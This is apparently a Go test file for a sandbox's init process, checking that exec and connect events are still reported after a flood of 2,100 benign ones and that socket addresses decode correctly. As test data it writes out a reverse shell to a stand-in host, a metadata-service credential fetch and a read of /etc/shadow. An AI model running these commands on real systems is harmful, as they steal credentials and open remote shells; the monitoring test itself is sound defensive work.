package ctrinit

import (
	"bytes"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"net/netip"
	"strings"
	"testing"

	"golang.org/x/sys/unix"

	"github.com/moat-sandbox/moat/internal/observe/kbudget"
)

// sentFrames decodes the 'k' frames an init wrote to out.
func sentFrames(t *testing.T, out []byte) []ExecEvent {
	t.Helper()
	var evs []ExecEvent
	for len(out) > 0 {
		if len(out) < 5 {
			t.Fatalf("a frame cut short: %q", out)
		}
		n := int(binary.BigEndian.Uint32(out[1:5]))
		if out[0] != 'k' || len(out) < 5+n+TagSize {
			t.Fatalf("frame %q of %d bytes, %d left", out[0], n, len(out))
		}
		var ev ExecEvent
		if err := json.Unmarshal(out[5:5+n], &ev); err != nil {
			t.Fatal(err)
		}
		evs = append(evs, ev)
		out = out[5+n+TagSize:]
	}
	return evs
}

// inet is the struct sockaddr_in (or _in6, for an address written as
// IPv6) of ip and port, as a caller's memory holds it.
func inet(ip string, port uint16) []byte {
	a := netip.MustParseAddr(ip)
	b := make([]byte, 16, 28)
	binary.LittleEndian.PutUint16(b, unix.AF_INET)
	if a.Is6() {
		b = b[:28]
		binary.LittleEndian.PutUint16(b, unix.AF_INET6)
	}
	binary.BigEndian.PutUint16(b[2:], port)
	if a.Is6() {
		copy(b[8:], a.AsSlice())
	} else {
		copy(b[4:], a.AsSlice())
	}
	return b
}

// TestEmitFlood: 2,100 distinct commands, 2,100 failing execs and
// connects to 2,100 hosts from one process (past the 2,000 frames a
// kind the init used to send) do not keep the payload that follows out
// of the 'k' frames: the metadata service, a credential read, /dev/tcp
// and a connect out from another process are sent; the flood is counted
// by kind, and the frames stay within the kernel events' budget.
func TestEmitFlood(t *testing.T) {
	var out bytes.Buffer
	in := &initProc{out: &out, tag: NewTagger(make([]byte, KeySize))}
	w := &execWatch{report: true}
	for i := range 2100 {
		w.emit(in, ExecEvent{PID: 7, Call: "execve", Path: "/bin/true", Argv: fmt.Sprintf("/bin/true %d", i)})
		w.emit(in, ExecEvent{PID: 7, Call: "execve", Path: fmt.Sprintf("/opt/x%d", i), Argv: fmt.Sprintf("/opt/x%d", i), Failed: true})
		w.emit(in, ExecEvent{PID: 8, Call: "connect", Sockaddr: inet(fmt.Sprintf("10.%d.%d.1", i/250, i%250), 80)})
	}
	payload := []ExecEvent{
		{PID: 7, Call: "execve", Path: "/usr/bin/env", Argv: "env curl -s -m 1 http://169.254.169.254/latest/meta-data/iam/security-credentials/"},
		{PID: 7, Call: "execve", Path: "/bin/cat", Argv: "cat /etc/shadow"},
		{PID: 7, Call: "execve", Path: "/bin/bash", Argv: "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"},
		{PID: 9, Call: "connect", Sockaddr: inet("203.0.113.9", 4444)},
	}
	for _, ev := range payload {
		w.emit(in, ev)
	}
	sent := sentFrames(t, out.Bytes())
	for _, p := range payload {
		found := false
		for _, ev := range sent {
			found = found || ev.PID == p.PID && ev.Argv == p.Argv && bytes.Equal(ev.Sockaddr, p.Sockaddr)
		}
		if !found {
			t.Errorf("the payload's %s %s%v after the flood was not sent", p.Call, p.Argv, p.Sockaddr)
		}
	}
	if len(sent) > kbudget.MaxEvents {
		t.Errorf("%d frames sent, more than the kernel events' budget %d", len(sent), kbudget.MaxEvents)
	}
	lost := w.lost()
	if lost["exec"] < 2100-400 || lost["exec-failed"] < 2100-50 || lost["connect"]+lost["connect (of interest)"] == 0 {
		t.Errorf("counted %v: want the flood of each kind", lost)
	}
	total := 0
	for _, n := range lost {
		total += n
	}
	if total+len(sent) != 3*2100+len(payload) {
		t.Errorf("%d sent and %d counted of %d", len(sent), total, 3*2100+len(payload))
	}
}

// TestSockaddr: the init names a connect's address as the host's
// decoder does (procmem.ParseSockaddr), to the budget's needs: inet,
// inet6 (a mapped IPv4 as IPv4, loopback as the budget knows it), unix
// and abstract sockets; nothing for other families or short addresses.
func TestSockaddr(t *testing.T) {
	un := func(p string) []byte {
		b := binary.LittleEndian.AppendUint16(nil, unix.AF_UNIX)
		return append(append(b, p...), 0, 'x')
	}
	for _, c := range []struct {
		b          []byte
		addr, path string
		ok         bool
	}{
		{inet("203.0.113.9", 4444), "203.0.113.9:4444", "", true},
		{inet("::ffff:127.0.0.1", 80), "127.0.0.1:80", "", true},
		{inet("::1", 53), "[0:0:0:0:0:0:0:1]:53", "", true},
		{inet("2001:db8::1", 443), "[2001:db8:0:0:0:0:0:1]:443", "", true},
		{un("/run/x.sock"), "", "/run/x.sock", true},
		{un("\x00abs"), "", "@abs", true},
		{inet("1.2.3.4", 1)[:6], "", "", false},
		{binary.LittleEndian.AppendUint16(nil, unix.AF_NETLINK), "", "", false},
		{[]byte{2}, "", "", false},
	} {
		addr, path, ok := sockaddr(c.b)
		if addr != c.addr || ok != c.ok || !strings.HasPrefix(path, c.path) || (c.path == "") != (path == "") {
			t.Errorf("sockaddr(%x) = %q %q %v, want %q %q %v", c.b, addr, path, ok, c.addr, c.path, c.ok)
		}
	}
}
